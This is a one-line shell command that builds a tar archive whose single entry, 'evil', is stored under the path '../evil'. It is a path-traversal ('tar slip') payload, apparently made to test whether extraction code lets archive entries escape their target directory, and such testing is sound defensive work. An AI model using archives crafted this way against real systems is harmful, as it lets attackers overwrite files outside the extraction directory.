echo x > evil; tar -P --transform "s,^,../," -cf w.tar evil; rm evil
